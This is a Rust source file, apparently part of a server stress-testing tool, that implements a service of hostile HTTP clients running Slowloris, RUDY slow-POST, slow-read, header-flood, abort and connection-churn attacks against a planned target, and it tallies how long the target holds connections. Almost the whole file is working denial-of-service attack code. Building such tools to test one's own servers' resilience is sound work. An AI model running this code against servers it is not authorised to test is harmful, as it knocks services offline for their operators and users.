//! The hostile clients of an attack, as a service of a reactor.

use std::sync::Arc;
use std::time::Duration;

use crossbeam_channel::Sender;
use toron_reactor::{
    Close, Context, Engine, Event, Fd, Incoming, Key, Op, Outcome, Service, Slab, Time, TimerId,
    Token,
};

use super::{AttackPlan, AttackStats, Kind};

/// The wait before a connection that came to nothing is tried again.
const WAIT: Duration = Duration::from_millis(100);
/// A connect is given up after this time.
const CONNECT_PATIENCE: Duration = Duration::from_secs(5);
/// Bytes that the body of a drip is said to have.
const PROMISED: &str = "1000000";
/// A field of a flood.
const FIELD: &[u8] = b"X-Flood: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n";
/// Fields per send of a flood.
const FIELDS: usize = 500;

const CONNECT: u8 = 0;
const RECV: u8 = 1;
const SEND: u8 = 2;
const DEADLINE: u8 = 3;

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Phase {
    Waiting,
    Connecting,
    Open,
    Gone,
}

#[derive(Debug)]
struct Client {
    token: Token,
    fd: Option<Fd>,
    timer: TimerId,
    phase: Phase,
    since: Time,
    receiving: bool,
    sending: bool,
    answered: bool,
    wake: Option<Time>,
}

/// See the module text.
#[derive(Debug)]
pub(super) struct Attacker {
    core: Core,
    clients: Slab<Client>,
}

#[derive(Debug)]
struct Core {
    plan: Arc<AttackPlan>,
    told: Sender<AttackStats>,
    stats: AttackStats,
    born: bool,
    done: bool,
    /// A client to be made at the end of the handler, after this time.
    remake: Option<Duration>,
}

struct Kit<'k, 'c, E: Engine> {
    core: &'k mut Core,
    cx: &'k mut Context<'c, E>,
}

impl Attacker {
    pub(super) fn new(plan: Arc<AttackPlan>, told: Sender<AttackStats>) -> Attacker {
        Attacker {
            core: Core {
                plan,
                told,
                stats: AttackStats::default(),
                born: false,
                done: false,
                remake: None,
            },
            clients: Slab::new(),
        }
    }

    pub(super) fn connections(&self) -> usize {
        self.core.plan.spec.connections
    }

    pub(super) fn is_done(&self) -> bool {
        self.core.done
    }

    fn with<E: Engine>(
        &mut self,
        cx: &mut Context<'_, E>,
        token: Token,
        handle: impl FnOnce(&mut Kit<'_, '_, E>, &mut Client),
    ) {
        let Some(client) = self.clients.get_mut(token) else {
            return;
        };
        let mut kit = Kit {
            core: &mut self.core,
            cx,
        };
        handle(&mut kit, client);
        if client.phase == Phase::Gone {
            self.clients.remove(token);
        } else {
            kit.cx.wheel.arm(client.timer, client.wake);
        }
        if let Some(wait) = self.core.remake.take() {
            self.make(cx, wait);
        }
    }

    fn make<E: Engine>(&mut self, cx: &mut Context<'_, E>, wait: Duration) {
        let (wheel, now) = (&mut *cx.wheel, cx.now);
        let token = self.clients.insert_with(|token| Client {
            token,
            fd: None,
            timer: wheel.insert(Key {
                token,
                lane: DEADLINE,
            }),
            phase: Phase::Waiting,
            since: now,
            receiving: false,
            sending: false,
            answered: false,
            wake: Some(now + wait),
        });
        self.with(cx, token, |kit, client| {
            if wait.is_zero() {
                kit.dial(client);
            }
        });
    }
}

impl<E: Engine> Service<E> for Attacker {
    type Message = ();

    fn incoming(&mut self, cx: &mut Context<'_, E>, incoming: Incoming) {
        // There is no listener.
        cx.engine.close(incoming.fd, Close::Orderly);
        cx.connection_ended();
    }

    fn event(&mut self, cx: &mut Context<'_, E>, event: Event) {
        let (key, outcome) = (event.key, event.outcome);
        self.with(cx, key.token, |kit, client| match key.lane {
            CONNECT => kit.dialled(client, &outcome),
            RECV => kit.received(client, &outcome),
            SEND => kit.sent(client, outcome),
            _ => {}
        });
    }

    fn deadline(&mut self, cx: &mut Context<'_, E>, key: Key) {
        self.with(cx, key.token, |kit, client| {
            kit.deadline(client);
        });
    }

    fn message(&mut self, cx: &mut Context<'_, E>, (): ()) {
        self.core.done = true;
        for token in self.clients.tokens() {
            if let Some(client) = self.clients.remove(token) {
                self.core.stats.open += u64::from(client.phase == Phase::Open);
                cx.wheel.remove(client.timer);
                if let Some(fd) = client.fd {
                    cx.engine.close(fd, Close::Reset);
                }
            }
        }
        // Whoever asked may have given up.
        let _ = self.core.told.send(self.core.stats);
    }

    fn next_moment(&self) -> Option<Time> {
        (!self.core.born).then_some(Time(0))
    }

    fn moment(&mut self, cx: &mut Context<'_, E>) {
        self.core.born = true;
        for _ in 0..self.connections() {
            self.make(cx, Duration::ZERO);
        }
    }

    fn drain(&mut self, _cx: &mut Context<'_, E>, _grace: Duration) {}

    fn is_finished(&self) -> bool {
        self.core.done
    }
}

impl<E: Engine> Kit<'_, '_, E> {
    fn submit(&mut self, client: &Client, lane: u8, op: Op) {
        let token = client.token;
        self.cx.engine.submit(Key { token, lane }, op);
    }

    fn dial(&mut self, client: &mut Client) {
        let addr = self.core.plan.addr;
        match self.cx.engine.socket(&addr) {
            Ok(fd) => {
                client.fd = Some(fd);
                client.phase = Phase::Connecting;
                client.wake = Some(self.cx.now + CONNECT_PATIENCE);
                self.submit(client, CONNECT, Op::Connect { fd, addr });
            }
            Err(_) => self.not_connected(client),
        }
    }

    fn not_connected(&mut self, client: &mut Client) {
        self.core.stats.not_connected += 1;
        self.close(client, Close::Orderly, WAIT);
    }

    fn close(&mut self, client: &mut Client, how: Close, wait: Duration) {
        client.phase = Phase::Gone;
        if let Some(fd) = client.fd.take() {
            self.cx.engine.close(fd, how);
        }
        self.cx.wheel.remove(client.timer);
        if !self.core.done {
            self.core.remake = Some(wait);
        }
    }

    fn dialled(&mut self, client: &mut Client, outcome: &Outcome) {
        match outcome {
            Outcome::Connected if client.phase == Phase::Connecting => {
                self.core.stats.connected += 1;
                client.phase = Phase::Open;
                client.since = self.cx.now;
                client.wake = None;
                let opening = self.opening();
                self.send(client, &opening);
                if self.core.plan.spec.kind != Kind::SlowRead {
                    self.receive(client);
                }
            }
            Outcome::Failed { .. } => self.not_connected(client),
            _ => {}
        }
    }

    /// What is sent first.
    fn opening(&self) -> Vec<u8> {
        let url = &self.core.plan.url;
        let (target, host) = (url.target(), url.authority());
        let line = |method: &str| format!("{method} {target} HTTP/1.1\r\nHost: {host}\r\n");
        match self.core.plan.spec.kind {
            Kind::Slowloris | Kind::HeaderFlood => line("GET"),
            Kind::Rudy => line("POST") + "Content-Length: " + PROMISED + "\r\n\r\n",
            Kind::SlowRead | Kind::Abort => line("GET") + "\r\n",
            Kind::Churn => line("GET") + "Connection: close\r\n\r\n",
        }
        .into_bytes()
    }

    fn send(&mut self, client: &mut Client, bytes: &[u8]) {
        let Some(fd) = client.fd.filter(|_| !client.sending) else {
            return;
        };
        let Some(mut buf) = self.cx.engine.buffers().take() else {
            // None left: it goes on at the next interval.
            client.wake = Some(self.cx.now + self.core.plan.interval);
            return;
        };
        buf.extend(bytes);
        client.sending = true;
        let op = Op::Send {
            fd,
            buf,
            more: false,
        };
        self.submit(client, SEND, op);
    }

    fn receive(&mut self, client: &mut Client) {
        if let Some(fd) = client.fd.filter(|_| !client.receiving) {
            client.receiving = true;
            self.submit(client, RECV, Op::Recv { fd, many: false });
        }
    }

    fn sent(&mut self, client: &mut Client, outcome: Outcome) {
        client.sending = false;
        // A broken connection shows in the receive.
        let Outcome::Sent { buf, n } = outcome else {
            return;
        };
        self.core.stats.sent += n as u64;
        if let (Some(fd), false) = (client.fd, buf.is_empty()) {
            client.sending = true;
            let op = Op::Send {
                fd,
                buf,
                more: false,
            };
            return self.submit(client, SEND, op);
        }
        drop(buf);
        match self.core.plan.spec.kind {
            Kind::Slowloris | Kind::Rudy | Kind::SlowRead => {
                client.wake = Some(self.cx.now + self.core.plan.interval);
            }
            Kind::HeaderFlood => self.send(client, &FIELD.repeat(FIELDS)),
            Kind::Abort => self.close(client, Close::Reset, Duration::ZERO),
            Kind::Churn => {}
        }
    }

    fn received(&mut self, client: &mut Client, outcome: &Outcome) {
        client.receiving = false;
        match outcome {
            Outcome::Received { buf, n } => {
                self.core.stats.received += *n as u64;
                if !std::mem::replace(&mut client.answered, true) {
                    // `HTTP/1.1 4…`: the class of the status.
                    let class = buf.get(9).map(|b| usize::from(b.saturating_sub(b'0')));
                    let place = class.map(|c| c.max(2) - 2);
                    if let Some(n) = place.and_then(|p| self.core.stats.answers.get_mut(p)) {
                        *n += 1;
                    }
                }
                if self.core.plan.spec.kind != Kind::SlowRead {
                    self.receive(client);
                }
            }
            Outcome::Eof { .. } | Outcome::Failed { .. } => {
                let churns = self.core.plan.spec.kind == Kind::Churn && client.answered;
                if !churns {
                    self.core.stats.closed_by_target += 1;
                    let held = self.cx.now.since(client.since).as_millis();
                    self.core.stats.held_ms += u64::try_from(held).unwrap_or(u64::MAX);
                }
                let wait = if churns { Duration::ZERO } else { WAIT };
                self.close(client, Close::Orderly, wait);
            }
            _ => {}
        }
    }

    fn deadline(&mut self, client: &mut Client) {
        client.wake = None;
        match (client.phase, self.core.plan.spec.kind) {
            (Phase::Waiting, _) => self.dial(client),
            (Phase::Connecting, _) => self.not_connected(client),
            (Phase::Open, Kind::Slowloris) => self.send(client, b"X-Slow: 1\r\n"),
            (Phase::Open, Kind::Rudy) => self.send(client, b"a"),
            (Phase::Open, Kind::SlowRead) => {
                // The more is asked for, the more waits to be read.
                let opening = self.opening();
                self.send(client, &opening);
                self.receive(client);
            }
            (Phase::Open, Kind::HeaderFlood) => self.send(client, FIELD),
            (Phase::Open, Kind::Churn | Kind::Abort) => {
                let opening = self.opening();
                self.send(client, &opening);
            }
            (Phase::Gone, _) => {}
        }
    }
}
